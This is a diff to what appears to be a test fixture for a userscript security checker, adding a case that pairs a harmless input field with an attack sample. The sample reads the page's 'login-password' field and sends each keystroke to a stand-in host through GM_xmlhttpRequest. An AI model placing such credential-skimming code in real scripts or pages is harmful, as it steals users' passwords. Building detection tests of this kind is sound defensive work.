@@ -29,6 +29,20 @@ const KINDS: readonly Kind[] = [
 		],
 	},
 	{
+		name: "fields that an object of a library inserts into the page",
+		head: GRANTED,
+		harmless: [
+			`editor.container(document.body).insertAdjacentHTML("beforeend", '<input id="linkParser">');
+			 const field = document.getElementById("linkParser");
+			 field.addEventListener("input", () => GM_xmlhttpRequest({ url: "https://find.example.org/?q=" + field.value, onload: (r) => console.log(r.responseText) }));`,
+		],
+		attacks: [
+			`editor.container(document.body).insertAdjacentHTML("beforeend", '<input id="linkParser">');
+			 const field = document.getElementById("login-password");
+			 field.addEventListener("input", () => GM_xmlhttpRequest({ url: "https://find.stranger.test/?q=" + field.value }));`,
+		],
+	},
+	{
 		name: "storage that the script fills itself",
 		harmless: [
 			`const cache = JSON.parse(localStorage.getItem("ratings-cache") || "{}");
